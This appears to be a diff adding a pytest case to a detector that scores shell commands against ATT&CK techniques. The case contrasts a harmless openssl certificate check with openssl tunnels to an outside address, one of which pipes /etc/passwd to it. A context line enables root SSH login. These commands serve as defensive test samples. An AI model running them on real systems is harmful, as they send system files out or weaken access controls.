@@ -195,6 +195,13 @@ def test_routine_work_that_looks_sensitive_stays_weak(line: str) -> None:
     assert not strong, (line, strong)
 
 
+def test_a_tls_connection_by_hand_counts_when_it_carries_data() -> None:
+    """`-quiet` (or a redirection) is a tunnel for data; printing the handshake is how people check a certificate."""
+    assert _techniques("openssl s_client -connect example.com:443 -servername example.com")["T1573"] < 0.3
+    assert _techniques("openssl s_client -quiet -connect 198.51.100.7:4443")["T1573"] >= 0.3
+    assert _techniques("openssl s_client -connect 198.51.100.7:4443 < /etc/passwd")["T1573"] >= 0.3
+
+
 def test_the_sshd_config_counts_when_it_lets_more_in() -> None:
     assert _techniques("sed -i s/^#PermitRootLogin.*/PermitRootLogin yes/ /etc/ssh/sshd_config")["T1098.004"] >= 0.4
 
